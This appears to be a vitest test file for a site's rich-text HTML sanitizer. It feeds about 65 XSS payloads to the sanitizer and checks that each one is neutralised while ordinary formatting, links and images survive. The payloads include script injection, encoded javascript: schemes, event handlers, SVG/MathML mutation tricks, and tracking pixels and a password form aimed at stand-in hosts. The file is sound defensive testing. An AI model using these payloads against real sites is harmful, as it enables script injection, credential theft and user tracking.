// @vitest-environment jsdom
// The answers are read back with a browser's HTML parser (jsdom), as the site will read them.
import { describe, expect, it } from 'vitest';
import { NOTICES } from '../seed/content/data/notices';
import { sanitizeRichText } from './rich-text';

const IMAGE_HOST = 'https://img.royal.example';

/** HTML as an inert fragment: nothing in a template loads or runs. */
function fragmentOf(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

function parse(html: string): DocumentFragment {
  return fragmentOf(sanitizeRichText(html, [IMAGE_HOST]));
}

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'strong', 'em', 'b', 'i', 'u', 's', 'small', 'sub', 'sup', 'blockquote', 'ul', 'ol', 'li', 'a', 'img',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'span', 'div', 'table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td',
]);
const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
};
/** A link the site may show: a web page, an e-mail address, or a path or route of the site itself. */
const SAFE_HREF = /^(?:https?:\/\/[^/\\]|mailto:|\/(?![/\\])|#)/;

/** What of a body could run, load or send something: an empty list for a safe body. */
function dangers(fragment: DocumentFragment): string[] {
  const found: string[] = [];
  for (const element of Array.from(fragment.querySelectorAll('*'))) {
    const tag = element.localName;
    if (!ALLOWED_TAGS.has(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (!(ALLOWED_ATTRIBUTES[tag] ?? []).includes(name)) found.push(`${tag}[${name}]`);
      if (/javascript|vbscript|data:|tracker\.example|evil\.example/i.test(value)) found.push(`${tag}[${name}="${value}"]`);
    }
    const href = element.getAttribute('href');
    if (tag === 'a' && href !== null && !SAFE_HREF.test(href)) found.push(`a[href="${href}"]`);
    const src = element.getAttribute('src');
    if (tag === 'img' && !(src?.startsWith(`${IMAGE_HOST}/`) || /^\/(?![/\\])/.test(src ?? ''))) found.push(`img[src="${src}"]`);
  }
  return found;
}

/** The XSS cheat sheet's shapes, tracking pixels and tricks that re-form markup after parsing. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['an external script', '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>'],
  ['a javascript: picture', `<IMG SRC="javascript:alert('XSS');">`],
  ['an unquoted mixed-case javascript: picture', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['padded decimal entities without semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex entities without semicolons', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['a tab inside the scheme', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['an encoded tab inside the scheme', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['an encoded newline inside the scheme', `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`],
  ['an encoded carriage return inside the scheme', '<a href="java&#x0D;script:alert(1)">x</a>'],
  ['leading spaces and a control character', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['a named-entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['a mixed-case link scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a hex-entity link scheme', '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'],
  ['a data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a data:image/svg+xml link', '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>'],
  ['a vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a protocol-relative link', '<a href="//evil.example/phish">x</a>'],
  ['a backslash protocol-relative link', '<a href="/\\evil.example/phish">x</a>'],
  ['a double-backslash link', '<a href="\\\\evil.example/phish">x</a>'],
  ['a tracking pixel on a foreign host', '<img src="https://tracker.example/pixel.gif?member=1" width="1" height="1">'],
  ['a protocol-relative tracking pixel', '<img src="//tracker.example/pixel.gif">'],
  ['an entity-encoded protocol-relative pixel', '<img src="&#x2F;&#x2F;tracker.example/pixel.gif">'],
  ['a look-alike of the image host', '<img src="https://img.royal.example.tracker.example/pixel.gif">'],
  ['the image host as user info', '<img src="https://img.royal.example@tracker.example/pixel.gif">'],
  ['the image host over another port', '<img src="https://img.royal.example:8443/pixel.gif">'],
  ['a data: picture', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'],
  ['srcset', '<img src="/lgw/assets/ok.svg" srcset="https://tracker.example/pixel.gif 1x, https://tracker.example/p2.gif 2x">'],
  ['a picture element', '<picture><source srcset="https://tracker.example/pixel.gif"><img src="/lgw/assets/ok.svg"></picture>'],
  ['CSS url() in a style attribute', '<p style="background:url(https://tracker.example/pixel.gif)">x</p>'],
  ['an entity-quoted CSS url()', '<div style="background-image: url(&quot;https://tracker.example/pixel.gif&quot;)">x</div>'],
  ['a CSS expression', `<div style="width: expression(alert('XSS'));">x</div>`],
  ['a style element with @import and url()', `<style>@import 'https://tracker.example/x.css'; body { background: url(javascript:alert(1)) }</style>`],
  ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['table and body backgrounds', '<body background="https://tracker.example/b.gif"><table background="javascript:alert(1)"><tr><td>x</td></tr></table></body>'],
  ['video and audio sources', '<video poster="https://tracker.example/p.gif"><source src="https://tracker.example/v.mp4"></video><audio src="https://tracker.example/a.mp3"></audio>'],
  ['an image input', '<input type="image" src="https://tracker.example/pixel.gif">'],
  ['svg onload', '<svg onload=alert(1)><circle r="4"></circle></svg>'],
  ['a script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['an svg link', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>'],
  ['a MathML namespace confusion', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;"></math>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['handlers in mixed case', '<p onmouseover="alert(1)" OnClick=alert(1) oNfOcUs=alert(1)>x</p>'],
  ['a handler on a table cell', '<table><tr><td onpointerdown=alert(1)>x</td></tr></table>'],
  ['a handler on an allowed picture', `<img src="${IMAGE_HOST}/ok.png" onerror="alert(1)" onload="alert(1)">`],
  ['a javascript: iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['an iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="javascript:alert(1)"></object>'],
  ['an embed', '<embed src="https://evil.example/x.swf">'],
  ['a form', '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a base', '<base href="https://evil.example/">'],
  ['noscript re-forming markup', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a textarea holding markup', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['xmp holding markup', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['a comment hiding a tag', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['a doubled opening bracket', '<<SCRIPT>alert("XSS");//<</SCRIPT>'],
  ['quotes breaking out of a tag', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['a script nested in its own name', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an unclosed link tag', '<a href="javascript:alert(1)"<b>x</b>'],
  ['an unclosed picture', '<img src=x onerror=alert(1)//'],
  ['clobbering attributes', '<div id="__proto__" class="modal" name="forms" data-state="open" aria-hidden="true">x</div>'],
  ['a link that asks for its opener', '<a href="https://ok.example/" target="_self" rel="opener" onclick="alert(1)">x</a>'],
];

describe('sanitizeRichText', () => {
  it(`is tried on ${HOSTILE.length} hostile bodies`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
  });

  it.each(HOSTILE)('leaves nothing that runs or loads from elsewhere: %s', (_, payload) => {
    const body = `<p>before</p>${payload}<p>after</p>`;
    // The check finds the danger in the body as it came.
    expect(dangers(fragmentOf(body))).not.toEqual([]);
    const fragment = parse(body);
    expect(dangers(fragment)).toEqual([]);
    // Nothing past the body was swallowed by it.
    expect(fragment.textContent).toMatch(/^before[\s\S]*after$/);
    // A second pass changes nothing: what the browser parses is what was checked.
    const once = sanitizeRichText(payload, [IMAGE_HOST]);
    expect(sanitizeRichText(once, [IMAGE_HOST])).toBe(once);
  });

  it('keeps the formatting of notices, terms and articles', () => {
    const html =
      '<h2>Bonus</h2><h3>Rules</h3><p>Dear <strong>member</strong>, <em>read</em> <b>this</b> <i>now</i> <u>please</u>.<br>Thanks</p>' +
      '<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Quote</blockquote><hr><div><span>Inline</span> <small>fine</small></div>' +
      '<table><caption>Days</caption><thead><tr><th scope="col" colspan="2">Day</th></tr></thead><tbody><tr><td rowspan="2">Friday</td></tr></tbody></table>';
    const fragment = parse(html);
    for (const tag of ['h2', 'h3', 'p', 'strong', 'em', 'b', 'i', 'u', 'br', 'ul', 'ol', 'li', 'blockquote', 'hr', 'div', 'span', 'small', 'table', 'caption', 'thead', 'tbody', 'tr', 'th', 'td']) {
      expect(fragment.querySelector(tag), tag).not.toBeNull();
    }
    expect(fragment.querySelector('th')?.getAttribute('scope')).toBe('col');
    expect(fragment.querySelector('th')?.getAttribute('colspan')).toBe('2');
    expect(fragment.querySelector('td')?.getAttribute('rowspan')).toBe('2');
    expect(fragment.textContent).toBe('BonusRulesDear member, read this now please.ThanksOneTwoQuoteInline fineDaysDayFriday');
  });

  it('keeps web, mail and site links; web and mail ones open in a new tab with no way back', () => {
    const fragment = parse(
      '<a href="https://example.com/promo" title="Promo">promo</a> <a href="http://example.com">old</a> <a href="mailto:help@example.com">mail</a> ' +
        '<a href="/help">help</a> <a href="#/promotions">promotions</a>',
    );
    const links = Array.from(fragment.querySelectorAll('a')).map((link) => [link.getAttribute('href'), link.getAttribute('target'), link.getAttribute('rel')]);
    expect(links).toEqual([
      ['https://example.com/promo', '_blank', 'noopener noreferrer'],
      ['http://example.com/', '_blank', 'noopener noreferrer'],
      ['mailto:help@example.com', '_blank', 'noopener noreferrer'],
      ['/help', null, null],
      ['#/promotions', null, null],
    ]);
    expect(fragment.querySelector('a')?.getAttribute('title')).toBe('Promo');
  });

  it("keeps pictures from the site and the merchant's image hosts, with an alt", () => {
    const fragment = parse(`<img src="/lgw/assets/promotions/1.svg" alt="Prize" width="200" height="50%"><img src="${IMAGE_HOST}/banner.png">`);
    const images = Array.from(fragment.querySelectorAll('img')).map((image) => [image.getAttribute('src'), image.getAttribute('alt')]);
    expect(images).toEqual([
      ['/lgw/assets/promotions/1.svg', 'Prize'],
      [`${IMAGE_HOST}/banner.png`, ''],
    ]);
    expect(fragment.querySelector('img')?.getAttribute('width')).toBe('200');
  });

  it("drops the pictures of an image host that is not this merchant's", () => {
    const html = `<p>x</p><img src="${IMAGE_HOST}/banner.png">`;
    expect(sanitizeRichText(html)).toBe('<p>x</p>');
    expect(sanitizeRichText(html, ['https://img.jade.example'])).toBe('<p>x</p>');
    expect(sanitizeRichText(html, [IMAGE_HOST])).toContain(`src="${IMAGE_HOST}/banner.png"`);
  });

  it('leaves the words of a link it drops', () => {
    expect(sanitizeRichText('<p><a href="javascript:alert(1)" onclick="alert(1)">Claim <strong>now</strong></a></p>')).toBe('<p>Claim <strong>now</strong></p>');
  });

  it("makes the seed's hostile notice harmless and keeps its prose", () => {
    const hostile = NOTICES.find((notice) => notice.content.en.includes('<script>'));
    expect(hostile).toBeDefined();
    for (const body of Object.values(hostile!.content)) {
      const fragment = parse(body);
      expect(dangers(fragment)).toEqual([]);
      expect(fragment.querySelectorAll('script, iframe, img')).toHaveLength(0);
      expect(fragment.querySelectorAll('strong')).toHaveLength(1);
    }
    expect(parse(hostile!.content.en).textContent).toBe(
      'Scammers copy our pages and send links like the one below by SMS and chat apps.Claim your free {cur}888 creditNever enter your password on a site that is not listed in our Help Centre.',
    );
  });

  it('answers an empty body with an empty string', () => {
    expect(sanitizeRichText('')).toBe('');
  });
});
